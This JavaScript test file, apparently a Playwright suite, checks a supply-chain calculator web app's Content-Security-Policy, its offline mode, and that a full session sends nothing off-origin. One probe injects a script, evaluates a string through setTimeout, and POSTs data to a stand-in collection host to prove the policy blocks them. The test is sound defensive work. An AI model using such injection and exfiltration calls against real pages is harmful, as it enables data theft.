// Privacy, enforced and proven: the Content-Security-Policy of the built page, a full session
// recorded request by request (by the browser and by the server), and the app offline.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { distDir, serveAndLaunch, openShareMenu, calculatorDrawn, chartsDrawn } from './harness.mjs';
import { realDeclaration, recordSkip, rmiDir, SKIP_REASON } from './rmi.mjs';

const env = serveAndLaunch();


function metaPolicy(html) {
  const m = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/);
  assert.ok(m, 'the page carries a Content-Security-Policy');
  return Object.fromEntries(
    m[1].split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
  );
}

test('the built page has a strict Content-Security-Policy, and the browser enforces it', async () => {
  const html = readFileSync(join(distDir, 'index.html'), 'utf8');
  const csp = metaPolicy(html);
  assert.deepEqual(csp['default-src'], ["'none'"]);
  assert.deepEqual(csp['connect-src'], ["'self'"]);
  assert.deepEqual(csp['style-src'], ["'self'"]);
  assert.ok(csp['script-src'].includes("'wasm-unsafe-eval'"));
  for (const [name, values] of Object.entries(csp)) {
    for (const v of values) {
      assert.ok(!["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:'].includes(v), `${name} allows ${v}`);
      assert.ok(!/^(https?:)?\/\//.test(v), `${name} names another origin: ${v}`);
    }
  }
  // Every inline script is allowed by its hash, and there is no inline event handler.
  const inline = [...html.matchAll(/<script\b(?![^>]*\bsrc=)[^>]*>/g)];
  const hashes = csp['script-src'].filter((v) => v.startsWith("'sha256-"));
  assert.equal(hashes.length, inline.length);
  assert.doesNotMatch(html.replace(/<script[\s\S]*?<\/script>/g, ''), /\son[a-z]+=/i);

  const context = await env.browser.newContext();
  const page = await context.newPage();
  const violations = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  await page.goto(env.server.url);
  await page.waitForSelector('[data-testid="app-ready"]');
  for (const name of ['scenarios', 'plan', 'methodology', 'sources', 'privacy', 'calculator']) {
    await page.getByRole('link', { name: new RegExp(`^${name}$`, 'i') }).first().click();
    await page.waitForTimeout(100);
  }
  assert.deepEqual(violations, [], 'the app itself never trips the policy');
  // Injected code is refused: an inline script does not run, code in a string (what eval
  // would run) does not run, and a request to another origin is blocked before it leaves the
  // env.browser.
  const probe = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true;';
    document.body.append(s);
    // A string handed to setTimeout is compiled like eval, by the page, under its policy.
    setTimeout('window.__evaluated = true;', 0);
    await new Promise((done) => setTimeout(done, 50));
    const evalBlocked = window.__evaluated !== true;
    let fetchBlocked = false;
    try {
      await fetch('http://example.invalid/collect', { method: 'POST', body: 'x' });
    } catch {
      fetchBlocked = true;
    }
    return { injected: window.__injected === true, evalBlocked, fetchBlocked };
  });
  assert.deepEqual(probe, { injected: false, evalBlocked: true, fetchBlocked: true });
  await context.close();
});

/**
 * Records a browser context: every request with the time it was made and whether the service
 * worker answered it, console errors, and page errors.
 */
function record(context) {
  const log = { requests: [], errors: [] };
  context.on('request', (r) => {
    const entry = { url: r.url(), at: Date.now(), fromServiceWorker: null, viaWorker: !!r.serviceWorker() };
    log.requests.push(entry);
    r.response()
      .then((res) => (entry.fromServiceWorker = res ? res.fromServiceWorker() : false))
      .catch(() => (entry.fromServiceWorker = false));
  });
  context.on('page', (p) => {
    p.on('console', (m) => m.type() === 'error' && log.errors.push(m.text()));
    p.on('pageerror', (e) => log.errors.push(String(e)));
  });
  return log;
}

/** Waits until the app is ready and its offline copy is installed and in control. */
async function loaded(page) {
  await page.waitForSelector('[data-testid="app-ready"]', { timeout: 60_000 });
  await page.waitForSelector('html[data-offline="ready"]', { timeout: 60_000 });
  // Let the last responses settle so that their fromServiceWorker flags are known.
  await page.waitForTimeout(300);
}

/**
 * Asserts that nothing reached the server, and no request left the page's origin, since `mark`.
 * With `swCheck`, the browser's own check of sw.js for a newer version (which it makes after a
 * navigation, at a time of its choosing) may reach the server: the app's own static file.
 */
function assertQuietSince(log, mark, what, { swCheck = false } = {}) {
  const origin = new URL(env.server.url).origin;
  for (const r of log.requests) assert.equal(new URL(r.url).origin, origin, `${what}: request to another origin: ${r.url}`);
  const toServer = env.server.requests.filter((r) => r.at >= mark && !(swCheck && r.path.startsWith('/sw.js')));
  assert.deepEqual(toServer.map((r) => r.path), [], `${what}: requests that reached the server after the load`);
  const fromNetwork = log.requests.filter((r) => r.at >= mark && r.fromServiceWorker !== true && !r.url.startsWith('blob:') && !r.url.startsWith('data:'));
  assert.deepEqual(fromNetwork.map((r) => r.url), [], `${what}: requests not answered by the offline copy`);
}

test('a full session makes no request after the initial load, and none to another origin', async (t) => {
  const context = await env.browser.newContext({ acceptDownloads: true });
  const log = record(context);
  const page = await context.newPage();
  await page.goto(env.server.url);
  await loaded(page);
  let mark = Date.now();

  // Template, edits, undo.
  await page.getByTestId('start-panel').locator('summary').click();
  await page.getByTestId('template-select').selectOption('ev_battery_nmc');
  await page.getByLabel(/per year/).fill('50000');
  await page.getByTestId('use-template').click();
  await page.waitForFunction(() => document.querySelector('[data-testid="headline"]')?.innerText.includes('kg'));
  const share = page.getByTestId('line-editor').first().getByTestId('country-share').first();
  if (await share.count()) {
    await share.fill('40');
    await page.getByRole('button', { name: 'Undo' }).click();
  }
  // Scenarios: a preset, then the Monte Carlo simulation in its lazily loaded worker.
  await page.getByRole('link', { name: 'Scenarios' }).click();
  await page.getByLabel('Trials').fill('20000');
  await page.getByTestId('mc-run').click();
  await page.getByTestId('mc-results').waitFor({ timeout: 60_000 });
  // The planner, applied and undone.
  await page.getByRole('link', { name: 'Plan' }).click();
  await page.getByTestId('plan-result').waitFor().catch(() => {});
  // Every other page, and the print view.
  for (const name of ['Methodology', 'Sources', 'Privacy', 'Calculator']) {
    await page.getByRole('link', { name }).first().click();
  }
  await page.emulateMedia({ media: 'print' });
  await page.emulateMedia({ media: 'screen' });
  // A spreadsheet import (CSV) and a supplier declaration (a real, redacted CMRT), read by the
  // lazily loaded import worker.
  await page.getByTestId('open-import').click();
  await page.getByTestId('import-files').setInputFiles({
    name: 'purchases.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from('Material,Part,Annual spend,Revenue share\ntungsten,Carbide inserts,120000,8\n'),
  });
  await page.getByTestId('import-confirm').waitFor({ timeout: 60_000 });
  await page.getByTestId('import-confirm').click();
  await calculatorDrawn(page);
  if (rmiDir) {
    await page.getByTestId('open-import').click();
    await page.getByTestId('import-files').setInputFiles(realDeclaration('CMRT6.4_JX_Advanced_Metals_REDACTED.xlsx'));
    await page.getByTestId('import-confirm').waitFor({ timeout: 60_000 });
    await page.getByTestId('import-confirm').click();
    await calculatorDrawn(page);
  } else {
    const step = 'full session: the step that imports a real CMRT declaration';
    t.diagnostic(`SKIPPED ${step}: ${SKIP_REASON}`);
    recordSkip(step);
  }
  // Every export, and a share link.
  await chartsDrawn(page);
  for (const id of ['download-json', 'export-lines-csv', 'export-materials-csv', 'export-chokepoints-csv', 'export-xlsx', 'export-svg-risk-matrix', 'export-png-risk-matrix']) {
    await openShareMenu(page);
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByTestId(id).click()]);
    assert.ok((await file.path()) !== null, `${id} downloaded`);
  }
  await openShareMenu(page);
  await page.getByTestId('share-link').click();
  const link = await page.getByTestId('share-url').inputValue();
  assert.match(link, /#.*p=v1\./);
  await page.waitForTimeout(500);
  assertQuietSince(log, mark, 'first visit');

  // A reload is a new load: it is answered by the offline copy, and so is everything after it.
  const beforeReload = Date.now();
  await page.reload();
  await loaded(page);
  const reloadToServer = env.server.requests.filter((r) => r.at >= beforeReload).map((r) => r.path);
  // The browser may check sw.js for a newer version on a navigation; nothing else may reach the env.server.
  assert.deepEqual(reloadToServer.filter((p) => !p.startsWith('/sw.js')), [], 'the reload was served by the offline copy');
  mark = Date.now();
  await page.getByRole('link', { name: 'Scenarios' }).click();
  await page.getByTestId('mc-run').click();
  await page.getByTestId('mc-results').waitFor({ timeout: 60_000 });
  await page.waitForTimeout(300);
  assertQuietSince(log, mark, 'after reload', { swCheck: true });
  assert.deepEqual(log.errors, []);
  await context.close();
});

test('with the network off, a returning visitor gets the full app', async () => {
  const context = await env.browser.newContext();
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.goto(env.server.url);
  await loaded(page);
  await context.setOffline(true);
  await page.reload();
  await page.waitForSelector('[data-testid="app-ready"]', { timeout: 60_000 });
  assert.match(await page.getByTestId('headline').innerText(), /\d/);
  // The lazily loaded simulation worker comes from the offline copy too.
  await page.getByRole('link', { name: 'Scenarios' }).click();
  await page.getByLabel('Trials').fill('20000');
  await page.getByTestId('mc-run').click();
  await page.getByTestId('mc-results').waitFor({ timeout: 60_000 });
  // So does every page after a cold start in a new tab.
  const second = await context.newPage();
  await second.goto(`${env.server.url}#/methodology`);
  await second.getByRole('heading', { name: 'Methodology' }).waitFor();
  assert.deepEqual(errors, []);
  await context.close();
});

test('the single-file build works opened from disk, alone, and requests nothing', async () => {
  // Copied alone into an empty folder: nothing beside it to load.
  const dir = mkdtempSync(join(tmpdir(), 'chokepoint-single-'));
  const file = join(dir, 'chokepoint-offline.html');
  copyFileSync(join(distDir, 'chokepoint-offline.html'), file);
  const context = await env.browser.newContext();
  await context.setOffline(true);
  const log = record(context);
  const page = await context.newPage();
  await page.goto(pathToFileURL(file).href);
  await page.waitForSelector('[data-testid="app-ready"]', { timeout: 60_000 });
  assert.match(await page.getByTestId('headline').innerText(), /\d/);
  await page.getByRole('link', { name: 'Scenarios' }).click();
  await page.getByLabel('Trials').fill('20000');
  await page.getByTestId('mc-run').click();
  await page.getByTestId('mc-results').waitFor({ timeout: 60_000 });
  assert.match(await page.getByTestId('mc-results').innerText(), /20000 trials/);
  const loaded = log.requests.map((r) => r.url).filter((u) => !/^(file|blob|data):/.test(u));
  assert.deepEqual(loaded, [], 'no request by address');
  assert.deepEqual(log.errors, []);
  await context.close();
  rmSync(dir, { recursive: true, force: true });
});
